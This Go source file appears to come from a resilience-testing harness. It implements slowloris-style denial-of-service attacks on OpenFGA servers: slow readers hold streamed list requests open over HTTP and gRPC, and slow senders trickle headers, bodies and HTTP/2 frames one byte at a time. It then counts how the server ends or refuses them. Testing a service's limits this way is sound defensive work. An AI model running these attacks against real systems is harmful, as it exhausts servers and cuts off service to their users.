package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	openfgav1 "github.com/openfga/api/proto/openfga/v1"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"
	"google.golang.org/grpc/metadata"
)

// How slow readers read: a little each while, into a small buffer.
const (
	slowBuffer = 4 << 10
	slowRead   = 512
	slowPause  = time.Second
	// slowStreams is how many streams one connection of gRPC carries.
	slowStreams = 50
)

// slowReaders ask for a list that is longer than what the kernel takes for them, half of them over gRPC, and read it
// so slowly that it never ends. They are a caller that may read, and ask again when the server gives up on them.
func slowReaders(ctx context.Context, a *attacker) (string, error) {
	var open, most, asked, ended, refused atomic.Int64
	// stay calls read, which reports whether there was something to read, until there is no more.
	stay := func(read func() bool) {
		now := open.Add(1)
		for was := most.Load(); now > was && !most.CompareAndSwap(was, now); was = most.Load() {
		}
		defer open.Add(-1)
		for ctx.Err() == nil {
			if !read() {
				ended.Add(1)
				return
			}
			sleep(ctx, slowPause)
		}
	}
	var readers sync.WaitGroup
	for first := 0; first < a.Slow; first += slowStreams {
		n := a.Nodes[first/slowStreams%len(a.Nodes)]
		count := min(slowStreams, a.Slow-first)
		if first/slowStreams%2 == 0 {
			for i := range count {
				readers.Go(func() {
					sleep(ctx, a.arrival(first+i, a.Slow))
					for ctx.Err() == nil {
						asked.Add(1)
						if err := a.slowOverHTTP(ctx, first+i, n, stay); err != nil {
							refused.Add(1)
						}
						sleep(ctx, redial)
					}
				})
			}
			continue
		}
		conn, err := grpc.NewClient("passthrough:///"+n.GRPC, grpc.WithTransportCredentials(credentials.NewTLS(a.trust)),
			grpc.WithInitialWindowSize(64<<10-1), grpc.WithInitialConnWindowSize(64<<10-1),
			grpc.WithContextDialer(func(ctx context.Context, address string) (net.Conn, error) { return dialAs(ctx, first, address) }))
		if err != nil {
			return "", err
		}
		defer conn.Close()
		for i := range count {
			readers.Go(func() {
				sleep(ctx, a.arrival(first+i, a.Slow))
				for ctx.Err() == nil {
					asked.Add(1)
					if err := a.slowOverGRPC(ctx, conn, stay); err != nil {
						refused.Add(1)
					}
					sleep(ctx, redial)
				}
			})
		}
	}
	readers.Wait()
	return fmt.Sprintf("%d lists asked for, at most %d read at once; the server ended %d, refused %d", asked.Load(), most.Load(), ended.Load(), refused.Load()), nil
}

func (a *attacker) slowOverHTTP(ctx context.Context, i int, n target, stay func(func() bool)) error {
	conn, err := a.speakAs(ctx, i, n.HTTP, "http/1.1")
	if err != nil {
		return err
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	body := `{"type":"doc","relation":"viewer","user":"user:wide"}`
	if _, err := fmt.Fprintf(conn, "POST /stores/%s/streamed-list-objects HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s",
		a.Wide, n.HTTP, a.Guest, len(body), body); err != nil {
		return err
	}
	buffer := make([]byte, slowRead)
	if _, err := io.ReadFull(conn, buffer); err != nil { // an answer that is shorter is no list
		return err
	}
	stay(func() bool {
		_, err := conn.Read(buffer)
		return err == nil
	})
	return nil
}

func (a *attacker) slowOverGRPC(ctx context.Context, conn *grpc.ClientConn, stay func(func() bool)) error {
	ctx, cancel := context.WithCancel(metadata.AppendToOutgoingContext(ctx, "authorization", "Bearer "+a.Guest))
	defer cancel()
	stream, err := openfgav1.NewOpenFGAServiceClient(conn).StreamedListObjects(ctx,
		&openfgav1.StreamedListObjectsRequest{StoreId: a.Wide, Type: "doc", Relation: "viewer", User: "user:wide"})
	if err != nil {
		return err
	}
	if _, err := stream.Recv(); err != nil {
		return err
	}
	stay(func() bool {
		_, err := stream.Recv()
		return err == nil
	})
	return nil
}

// slowSenders send what they have a byte at a time: heads, bodies, and messages of gRPC.
func slowSenders(ctx context.Context, a *attacker) (string, error) {
	var opened, closed atomic.Int64
	var senders sync.WaitGroup
	for i := range a.Slow {
		n := a.Nodes[i%len(a.Nodes)]
		senders.Go(func() {
			sleep(ctx, a.arrival(i, a.Slow))
			for ctx.Err() == nil {
				begun, rest, address, protocol := slowly(i, a, n)
				conn, err := a.speakAs(ctx, i, address, protocol)
				if err != nil {
					sleep(ctx, redial)
					continue
				}
				opened.Add(1)
				stop := context.AfterFunc(ctx, func() { conn.Close() })
				go drain(conn) // ends with the connection
				_, err = conn.Write(begun)
				for at := 0; err == nil && ctx.Err() == nil; at++ {
					sleep(ctx, slowPause)
					_, err = conn.Write(rest[at%len(rest) : at%len(rest)+1])
				}
				stop()
				conn.Close()
				if ctx.Err() == nil {
					closed.Add(1)
				}
				sleep(ctx, redial)
			}
		})
	}
	senders.Wait()
	return fmt.Sprintf("%d requests begun, the server closed %d", opened.Load(), closed.Load()), nil
}

// slowly returns what the i-th slow sender sends at once, and what it sends a byte at a time, over and over.
func slowly(i int, a *attacker, n target) (begun, rest []byte, address, protocol string) {
	head := "POST /stores/" + a.Wide + "/check HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer " + a.Guest + "\r\n"
	switch i % 4 {
	case 0:
		return []byte(head), []byte("X-A: b\r\n"), n.HTTP, "http/1.1"
	case 1:
		return []byte(head + "Content-Length: 100000\r\n\r\n{"), []byte(" "), n.HTTP, "http/1.1"
	case 2:
		return []byte(head + "Transfer-Encoding: chunked\r\n\r\n"), []byte("1\r\n \r\n"), n.HTTP, "http/1.1"
	}
	f := newFrames()
	f.preface()
	f.request(1, a.Guest, "/openfga.v1.OpenFGAService/Check")
	// A frame of data, a byte at a time: more of the message's five bytes of head, then of its body.
	f.data(1, false, 0, 0, 1, 0)
	return f.bytes(), []byte{0, 0, 1, 0, 0, 0, 0, 0, 1, 0}, n.GRPC, "h2"
}
